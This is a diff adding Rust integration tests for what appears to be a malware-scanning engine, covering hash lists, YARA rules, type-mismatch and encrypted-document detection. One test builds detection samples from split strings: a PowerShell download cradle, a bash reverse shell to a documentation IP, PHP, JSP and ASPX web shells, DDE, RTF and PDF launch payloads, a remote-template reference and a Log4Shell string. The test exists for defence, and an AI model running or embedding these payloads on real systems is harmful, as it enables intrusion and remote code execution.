@@ -1,0 +1,170 @@
+//! Lists, rules, heuristics and types, through the whole pipeline.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+
+use std::fs;
+use std::io::{Cursor, Write};
+use std::path::Path;
+
+use common::{Case, eicar, lines, zip};
+use portcullis_core::domain::verdict::Code;
+use portcullis_engines::Definitions;
+
+fn definitions(files: &[(&str, &str)]) -> (tempfile::TempDir, Definitions) {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, text) in files {
+        let path = dir.path().join(name);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, text).unwrap();
+    }
+    let definitions = Definitions::load(Some(dir.path()), None);
+    (dir, definitions)
+}
+
+fn sha256(content: &[u8]) -> String {
+    Case::new("x", content).run().root.digests.sha256
+}
+
+#[test]
+fn lists_decide_on_files_and_on_children() {
+    let (good, bad) = (eicar(), b"bad".as_slice());
+    let (_dir, definitions) = definitions(&[
+        ("hashes/allow.txt", &format!("{},known", sha256(&good))),
+        ("hashes/block.txt", &format!("{},Known.Bad", sha256(bad))),
+    ]);
+    let allowed = Case::new("e.com", &good).run_with(&definitions);
+    assert_eq!(allowed.root.verdict.all, [Code::Allowlisted, Code::Infected]);
+    assert_eq!(allowed.root.verdict.result(), "Allowed");
+    let blocked = Case::new("b.txt", bad).run_with(&definitions).root;
+    assert_eq!(blocked.verdict.all, [Code::Blocklisted, Code::Infected]);
+    assert!(blocked.engines.iter().any(|e| e.name == "Hash Reputation" && e.threat == "Known.Bad"));
+
+    let archive = Case::new("a.zip", &zip(&[("e.com", &good), ("ok.txt", b"fine")])).run_with(&definitions);
+    assert_eq!(lines(&archive), ["0 a.zip", "7 a.zip/e.com", "0 a.zip/ok.txt"], "an allowed child does not allow its archive");
+    let archive = Case::new("a.zip", &zip(&[("e.com", &good), ("b.txt", bad)])).run_with(&definitions);
+    assert_eq!(lines(&archive), ["8 a.zip", "7 a.zip/e.com", "8 a.zip/b.txt"]);
+}
+
+#[test]
+fn the_skip_list_leaves_named_engines_out() {
+    let (_dir, definitions) = definitions(&[("hashes/skip.txt", &format!("{},noisy,YARA-X", sha256(&eicar())))]);
+    let root = Case::new("e.com", &eicar()).run_with(&definitions).root;
+    assert_eq!(root.verdict.code, Code::NoThreatDetected);
+    assert_eq!(root.engines.iter().find(|e| e.name == "YARA-X").unwrap().code, Code::NotScanned);
+}
+
+#[test]
+fn operators_rules_block_and_broken_ones_are_told() {
+    let (_dir, definitions) = definitions(&[
+        ("yara/mine/a.yar", "rule Forbidden_Word { strings: $a = \"forbidden word\" condition: $a }"),
+        ("yara/b.yar", "rule Listed { meta: severity = \"informational\" strings: $a = \"listed word\" condition: $a }"),
+        ("yara/broken.yar", "rule broken { strings: $a = condition: $a }"),
+        ("hashes/block.txt", "nonsense\n"),
+    ]);
+    let root = Case::new("a.txt", b"a forbidden word").run_with(&definitions).root;
+    assert_eq!(root.verdict.all, [Code::YaraRuleMatched, Code::Infected]);
+    assert_eq!(root.engines[0].threat, "YARA.Forbidden_Word");
+    assert_eq!(root.yara[0].rule, "Forbidden_Word");
+    let root = Case::new("a.txt", b"a listed word").run_with(&definitions).root;
+    assert_eq!(root.verdict.all, [Code::NoThreatDetected]);
+    assert_eq!(root.yara[0].rule, "Listed");
+    let status = definitions.status();
+    assert!(status.iter().all(|s| s.active));
+    assert!(status[0].issues.iter().any(|i| i.contains("broken.yar")), "{status:?}");
+    assert!(status[1].issues.iter().any(|i| i.contains("line 1")), "{status:?}");
+}
+
+#[test]
+fn a_rule_can_choose_engines_and_choosing_none_that_exists_is_not_clean() {
+    let one = Case::new("a", b"x").rule(|rule| rule.engines = vec!["Hash Reputation".into()]).run();
+    assert_eq!(one.root.engines.len(), 1);
+    assert_eq!(one.root.verdict.code, Code::NoThreatDetected);
+    let none = Case::new("a", b"x").rule(|rule| rule.engines = vec!["Nonexistent".into()]).run();
+    assert_eq!(none.root.verdict.code, Code::NotScanned);
+}
+
+#[test]
+fn a_job_without_time_or_without_its_file_fails() {
+    let mut case = Case::new("a", b"x");
+    case.job.time_budget_ms = 0;
+    assert_eq!(case.run().root.verdict.code, Code::Failed);
+    let mut case = Case::new("a", b"x");
+    case.job.path = case.dir().join("missing");
+    let report = portcullis_engines::analyse(common::definitions(), &case.job);
+    assert_eq!(report.root.verdict.code, Code::Failed);
+    case.job.path = Path::new("/proc").into();
+    assert_eq!(portcullis_engines::analyse(common::definitions(), &case.job).root.verdict.code, Code::Failed);
+}
+
+#[test]
+fn executables_behind_documents_are_mismatches_and_double_extensions_suspicious() {
+    let elf = fs::read("/proc/self/exe").map(|bytes| bytes[..4_096].to_vec()).unwrap();
+    let root = Case::new("invoice.pdf", &elf).run().root;
+    assert_eq!(root.verdict.code, Code::FileTypeMismatch);
+    assert!(root.verdict.detail.contains(".pdf"), "{}", root.verdict.detail);
+    let tolerated = Case::new("invoice.pdf", &elf).rule(|rule| rule.tolerate = vec![Code::FileTypeMismatch]).run();
+    assert_eq!(tolerated.root.verdict.code, Code::NoThreatDetected);
+    assert_eq!(Case::new("invoice.pdf.exe", b"MZ").run().root.verdict.code, Code::Suspicious);
+    let child = Case::new("a.zip", &zip(&[("photo.jpg", &elf)])).run();
+    assert_eq!(lines(&child), ["17 a.zip", "17 a.zip/photo.jpg"]);
+}
+
+#[test]
+fn an_encrypted_document_is_told_from_an_ordinary_one() {
+    let document = |streams: &[&str]| {
+        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+        for name in streams {
+            file.create_stream(name).unwrap().write_all(b"x").unwrap();
+        }
+        file.into_inner().into_inner()
+    };
+    let root = Case::new("a.docx", &document(&["EncryptedPackage", "EncryptionInfo"])).run().root;
+    assert_eq!(root.verdict.code, Code::PasswordProtectedDocument, "{:?}", root.file_type);
+    let root = Case::new("a.doc", &document(&["WordDocument"])).run().root;
+    assert_eq!((root.verdict.code, root.file_type.mime.as_str()), (Code::NoThreatDetected, "application/msword"));
+}
+
+#[test]
+fn every_bundled_rule_that_claims_a_sample_finds_it() {
+    // Short extracts that do nothing; put together at run time, so that no scanner minds this file.
+    let cradle = ["powershell -nop -w hidden -c \"IEX (New-Object Net.Web", "Client).Download", "String('http://192.0.2.1/a')\""].concat();
+    let encoded = ["powershell.exe -nop -enco", "dedcommand ", &"QUJD".repeat(30)].concat();
+    let reverse = ["bash -i >& /dev/", "tcp/192.0.2.1/4444 0>&1"].concat();
+    let php = ["<?php @ev", "al($_PO", "ST['x']); ?>"].concat();
+    let jsp = ["<% Runtime.getRun", "time().exec(request.getPara", "meter(\"c\")); %>"].concat();
+    let asp = ["<%@ Page Language=\"Jscript\"%><%ev", "al(Request.Item[\"x\"],\"unsafe\");%>"].concat();
+    let dde = ["DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""].concat();
+    let rtf = ["{\\rtf1{\\object\\objemb{\\*\\objclass Equ", "ation.3}\\objdata 01}}"].concat();
+    let pdf = ["%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S /Lau", "nch /Win << /F (cmd.exe) >> >> >>"].concat();
+    let template = "<Relationship Type=\"http://x/relationships/attachedTemplate\" Target=\"http://192.0.2.1/t.dotm\" TargetMode=\"External\"/>";
+    let jndi = ["GET /?x=${jn", "di:ldap://192.0.2.1:1389/a} HTTP/1.1"].concat();
+    let samples = [
+        ("PowerShell_Download_Cradle", cradle.as_str(), Code::Suspicious),
+        ("PowerShell_Encoded_Command", &encoded, Code::Suspicious),
+        ("Reverse_Shell_One_Liner", &reverse, Code::Suspicious),
+        ("PHP_Eval_Of_Request", &php, Code::Infected),
+        ("JSP_Command_Shell", &jsp, Code::Infected),
+        ("ASPX_Command_Shell", &asp, Code::Infected),
+        ("Office_DDE_Command", &dde, Code::Infected),
+        ("RTF_Equation_Editor", &rtf, Code::Infected),
+        ("PDF_Launch_Program", &pdf, Code::Infected),
+        ("Office_Remote_Template", template, Code::Suspicious),
+        ("Jndi_Lookup_Attack", &jndi, Code::Suspicious),
+    ];
+    for (rule, sample, code) in samples {
+        let root = Case::new("sample", sample.as_bytes()).run().root;
+        assert!(root.yara.iter().any(|hit| hit.rule == rule), "{rule}: {:?}", root.yara);
+        assert_eq!(root.verdict.code, code, "{rule}");
+    }
+}
+
+#[test]
+fn every_row_and_its_identity_stand_in_the_catalogue() {
+    let root = Case::new("a", b"x").run().root;
+    for row in &root.engines {
+        assert!(portcullis_core::domain::engine::CATALOGUE.iter().any(|i| i.name == row.name && i.id == row.id), "{}", row.name);
+        assert!(row.def_time.ends_with('Z') && row.threat.is_empty());
+    }
+}
